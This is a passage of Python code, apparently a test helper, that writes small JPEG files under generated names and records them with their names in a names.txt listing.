        path = names / f"name-{key}.jpg"
        path.write_bytes(small_jpeg())
        listing.append(f"{path.name}\t{name!r}")
        written.append(path)
    (names / "names.txt").write_text("\n".join(listing) + "\n", encoding="utf-8")
    return written
